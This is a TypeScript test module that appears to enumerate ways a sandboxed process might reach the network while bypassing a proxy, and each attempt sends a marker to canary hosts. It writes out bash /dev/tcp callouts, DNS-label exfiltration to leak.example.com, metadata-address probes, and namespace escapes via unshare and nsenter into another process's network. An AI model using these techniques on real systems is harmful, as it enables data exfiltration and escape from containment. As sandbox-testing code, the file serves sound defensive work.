import { execFile } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { lookup, Resolver } from 'node:dns/promises';
import { connect, type NetConnectOpts } from 'node:net';
import { networkInterfaces } from 'node:os';
import { CANARY, NAME_SERVER, UDP_PORT } from './addresses.ts';
import type { Attempt } from './attempt.ts';

/** Connects, says the mark, and waits for an answer. */
function say(options: NetConnectOpts, mark: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = connect(options, () => socket.write(`${mark}\r\n\r\n`));
    socket.on('error', reject);
    socket.on('data', (chunk) => {
      resolve(`answered: ${chunk.toString('latin1').slice(0, 12)}`);
      socket.destroy();
    });
  });
}

const tcp = (name: string, host: string): Attempt => ({ name, make: (mark) => say({ host, port: 80 }, mark) });

/** Past the proxy: nothing told these clients that there is one. */
const page = (name: string, host: string): Attempt => ({
  name,
  make: async (mark) => `status ${(await fetch(`http://${host}/${mark}`)).status}`,
});

function datagram(type: 'udp4' | 'udp6', host: string, mark: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const socket = createSocket(type);
    socket.on('error', reject);
    socket.bind(0, () => {
      if (type === 'udp4') socket.setBroadcast(true);
      socket.send(mark, UDP_PORT, host, (error) => {
        socket.close();
        if (error) reject(error);
        else resolve('sent');
      });
    });
  });
}

const udp = (name: string, type: 'udp4' | 'udp6', hostOf: () => string): Attempt => ({
  name,
  make: (mark) => datagram(type, hostOf(), mark),
});

/** The wire where there is one. */
const device = (): string => Object.keys(networkInterfaces()).find((name) => name !== 'lo') ?? 'lo';

const program = (command: string, args: readonly string[]): Promise<string> =>
  new Promise((resolve) => {
    execFile(command, [...args], { timeout: 8_000 }, (error) =>
      resolve(error ? `ended with ${error.code}` : 'ended well'),
    );
  });

const saidByShell = (host: string, mark: string): readonly string[] => [
  'bash',
  '-c',
  `echo ${mark} >/dev/tcp/${host}/80`,
];

/** Ways out that do not ask the proxy. */
export const DIRECT: readonly Attempt[] = [
  tcp('tcp-v4', CANARY.v4),
  tcp('tcp-v6', CANARY.v6),
  tcp('tcp-metadata', CANARY.metadata),
  tcp('tcp-private', CANARY.private),
  page('fetch-decimal', '16909060'),
  page('fetch-v6', `[${CANARY.v6}]`),
  page('fetch-mapped', '[::ffff:1.2.3.4]'),
  page('fetch-by-name', 'canary.example.com'),
  {
    name: 'websocket',
    make: (mark) =>
      new Promise((resolve) => {
        const socket = new WebSocket(`ws://${CANARY.v4}/${mark}`);
        socket.addEventListener('error', () => resolve('error'));
        socket.addEventListener('open', () => resolve('open'));
      }),
  },
  udp('udp-v4', 'udp4', () => CANARY.v4),
  udp('udp-v6', 'udp6', () => CANARY.v6),
  udp('udp-broadcast', 'udp4', () => '255.255.255.255'),
  udp('udp-link-local', 'udp6', () => `ff02::1%${device()}`),
  {
    name: 'dns-labels',
    make: async (mark) => {
      const resolver = new Resolver({ timeout: 2_000, tries: 1 });
      resolver.setServers([NAME_SERVER]);
      return (await resolver.resolve4(`${mark}.leak.example.com`)).join();
    },
  },
  { name: 'dns-of-system', make: async (mark) => (await lookup(`${mark}.leak.example.com`)).address },
  { name: 'ping-v4', make: () => program('ping', ['-c1', '-W5', CANARY.v4]) },
  { name: 'ping-v6', make: () => program('ping', ['-c1', '-W5', CANARY.v6]) },
  { name: 'shell', make: (mark) => program('bash', saidByShell(CANARY.v4, mark).slice(1)) },
  // In a user namespace of its own a process has every right, but not over the network it is in.
  {
    name: 'own-rights',
    make: (mark) =>
      program('unshare', [
        ...['--user', '--map-root-user', 'bash', '-c'],
        `ip route add default dev lo; echo ${mark} >/dev/tcp/${CANARY.v4}/80`,
      ]),
  },
  { name: 'socket-file', make: (mark, { socketPath }) => say({ path: socketPath }, mark) },
  { name: 'socket-abstract', make: (mark, { abstractName }) => say({ path: `\0${abstractName}` }, mark) },
  {
    name: 'socket-in-proc',
    make: (mark, { outsidePid, socketPath }) => say({ path: `/proc/${outsidePid}/root${socketPath}` }, mark),
  },
  {
    name: 'other-network',
    make: (mark, { outsidePid }) =>
      program('nsenter', [`--target=${outsidePid}`, '--net', ...saidByShell(CANARY.v4, mark)]),
  },
  {
    name: 'network-in-proc',
    make: (mark, { outsidePid }) =>
      program('nsenter', [`--net=/proc/${outsidePid}/ns/net`, ...saidByShell(CANARY.v4, mark)]),
  },
];
